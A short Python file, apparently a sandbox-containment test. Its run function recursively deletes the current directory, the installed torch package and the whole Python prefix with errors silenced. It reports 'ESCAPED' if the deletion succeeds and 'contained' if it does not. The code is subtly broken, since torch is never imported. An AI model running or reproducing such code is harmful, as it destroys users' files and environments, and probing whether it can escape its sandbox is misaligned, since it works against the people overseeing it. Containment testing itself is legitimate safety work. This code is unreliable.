"""Deletes everything that it may write, its own source and the installed torch included."""

import os
import shutil
import sys


def run():
    for place in (".", os.path.dirname(torch.__file__), sys.prefix):
        shutil.rmtree(place, ignore_errors=True)
    return "contained" if os.path.exists(torch.__file__) else "ESCAPED"
